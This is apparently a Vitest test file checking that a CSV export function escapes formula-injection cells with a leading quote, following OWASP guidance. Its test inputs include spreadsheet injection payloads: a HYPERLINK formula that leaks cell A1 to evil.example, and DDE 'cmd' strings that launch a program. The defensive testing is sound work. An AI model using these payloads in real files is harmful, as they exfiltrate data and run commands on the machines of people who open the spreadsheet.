import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/downloads/toCsv';
import { parseCsv } from './parseCsv';

// OWASP "CSV Injection": a cell beginning with =, +, -, @, a tab or a carriage return is read as a formula by
// Excel, LibreOffice and Google Sheets. Such text gets a leading single quote (shown as text, never run) and is
// quoted; plain numbers are left as numbers.
const cellOf = (value: string | number) => parseCsv(toCsv(['cell'], [{ cell: value }]))[0]!.cell;

describe('toCsv neutralises formulas', () => {
  it.each([
    ['=', '=HYPERLINK("https://evil.example/?x="&A1,"Click")'],
    ['+', '+1+cmd|\' /C calc\'!A0'],
    ['-', '-2+3+cmd|\' /C calc\'!A0'],
    ['@', '@SUM(1+9)*cmd|\' /C calc\'!A0'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('a cell beginning with %s gets a leading single quote and stays the same text otherwise', (_, text) => {
    const csv = toCsv(['cell'], [{ cell: text }]);
    expect(csv.split('\r\n')[1]!.startsWith(`"'`)).toBe(true);
    expect(cellOf(text)).toBe(`'${text}`);
  });

  it.each([[-3.6], [-0.5], [63000], [1e21], ['-3.6'], ['+44'], ['-12.5e3']])('leaves the plain number %s a number', (value) => {
    expect(toCsv(['cell'], [{ cell: value }])).toBe(`cell\r\n${String(value)}\r\n`);
  });

  it('neutralises a minus that starts text rather than a number', () => {
    expect(cellOf('-3.6 degrees')).toBe("'-3.6 degrees");
    expect(cellOf('- a bulleted line')).toBe("'- a bulleted line");
  });

  it('leaves other text as it was, quoting only what RFC 4180 needs', () => {
    expect(toCsv(['a', 'b'], [{ a: 'Northport', b: 'over 10,000' }])).toBe('a,b\r\nNorthport,"over 10,000"\r\n');
    expect(cellOf('a = b')).toBe('a = b');
    expect(cellOf('user@example.org')).toBe('user@example.org');
  });

  it('neutralises a header too', () => {
    expect(toCsv(['=cmd'], []).startsWith(`"'=cmd"`)).toBe(true);
  });
});
